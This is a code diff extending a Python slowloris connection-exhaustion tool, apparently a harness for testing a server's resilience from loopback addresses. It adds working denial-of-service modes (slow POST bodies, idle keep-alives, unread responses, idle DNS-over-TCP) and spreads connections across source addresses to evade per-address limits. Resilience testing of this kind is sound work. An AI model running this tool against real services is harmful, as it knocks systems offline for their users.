@@ -5,7 +5,15 @@ original slowloris does, at most RATE a second (an attacker's budget of new conn
 first CONNECTIONS are opened at once).
 
     slowloris.py HOST:PORT CONNECTIONS SECONDS [--sources 127.0.1.1-127.0.1.100] [--silent]
-                 [--rate RATE]
+                 [--rate RATE] [--mode MODE [--path PATH]]
+
+MODE says what each connection does once open:
+  header    half a request line, then nothing (the default; --silent: not even that)
+  body      a POST head to PATH with a 4,000-byte Content-Length, then one body byte every
+            5 s (--every SECONDS): a slow upload that resets any timer kept between reads
+  idle      one complete GET of PATH, its answer read, then an idle keep-alive connection
+  noread    a GET of PATH with a 4 KiB receive buffer, whose answer is never read
+  dns-idle  one DNS query over TCP (www.example.com A), its answer read, then idle
 
 Connections are spread over the source addresses (all of 127.0.0.0/8 is local), so a per-address
 cap alone cannot stop it. Prints one JSON line at the end: how many connections were opened, how
@@ -27,6 +35,13 @@ def sources(spec):
     return [str(ipaddress.ip_address(i)) for i in range(a, b + 1)]
 
 
+def dns_query():
+    """www.example.com A, framed for TCP."""
+    name = b"".join(bytes([len(p)]) + p for p in b"www.example.com".split(b".")) + b"\0"
+    msg = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
+    return len(msg).to_bytes(2, "big") + msg
+
+
 def main():
     target, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
     host, _, port = target.rpartition(":")
@@ -36,18 +51,34 @@ def main():
     silent = "--silent" in sys.argv
     if "--sources" in sys.argv:
         src = sources(sys.argv[sys.argv.index("--sources") + 1])
-    payload = b"" if silent else b"GET /healthz HTTP/1.1\r\nHost: flood\r\nX-Slow: "
+    mode = sys.argv[sys.argv.index("--mode") + 1] if "--mode" in sys.argv else "header"
+    path = sys.argv[sys.argv.index("--path") + 1] if "--path" in sys.argv else "/healthz"
+    every = float(sys.argv[sys.argv.index("--every") + 1]) if "--every" in sys.argv else 5.0
+    payload = {
+        "header": b"" if silent else b"GET /healthz HTTP/1.1\r\nHost: flood\r\nX-Slow: ",
+        "body": b"POST " + path.encode() + b" HTTP/1.1\r\nHost: flood\r\n"
+        b"Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n{",
+        "idle": b"GET " + path.encode() + b" HTTP/1.1\r\nHost: flood\r\n\r\n",
+        "noread": b"GET " + path.encode() + b" HTTP/1.1\r\nHost: flood\r\n\r\n",
+        "dns-idle": dns_query(),
+    }[mode]
+    last_byte = {}
     rate = float(sys.argv[sys.argv.index("--rate") + 1]) if "--rate" in sys.argv else 5000.0
     round_s = 0.1
     sel = selectors.DefaultSelector()
     stats = {"opened": 0, "closed_by_server": 0, "failed": 0, "most_open": 0}
     live = 0
     n = 0
+    held = []
     deadline = time.monotonic() + seconds
 
     def open_one():
         nonlocal live, n
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        if mode == "noread":
+            # A small window: the server's sends stop after a few KiB, as with a client that
+            # never reads.
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         try:
             s.bind((src[n % len(src)], 0))
             n += 1
@@ -78,7 +109,13 @@ def main():
                         s.send(payload)
                 except OSError:
                     pass
-                sel.modify(s, selectors.EVENT_READ, "open")
+                last_byte[s] = time.monotonic()
+                if mode == "noread":
+                    # Never read; a peek would drain nothing, so only errors are watched.
+                    sel.unregister(s)
+                    held.append(s)
+                else:
+                    sel.modify(s, selectors.EVENT_READ, "open")
             else:
                 try:
                     data = s.recv(4096)
@@ -87,6 +124,24 @@ def main():
                 if not data:
                     stats["closed_by_server"] += 1
                     sel.unregister(s)
+                    last_byte.pop(s, None)
+                    s.close()
+                    live -= 1
+        if mode == "body":
+            now = time.monotonic()
+            for s, at in list(last_byte.items()):
+                if now - at >= every:
+                    last_byte[s] = now
+                    try:
+                        s.send(b" ")
+                    except OSError:
+                        pass
+        if mode == "noread":
+            for s in list(held):
+                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+                if err:
+                    stats["closed_by_server"] += 1
+                    held.remove(s)
                     s.close()
                     live -= 1
         stats["most_open"] = max(stats["most_open"], live)
@@ -98,6 +153,8 @@ def main():
                 budget -= 1
     for key in list(sel.get_map().values()):
         key.fileobj.close()
+    for s in held:
+        s.close()
     print(json.dumps(stats))
 
 
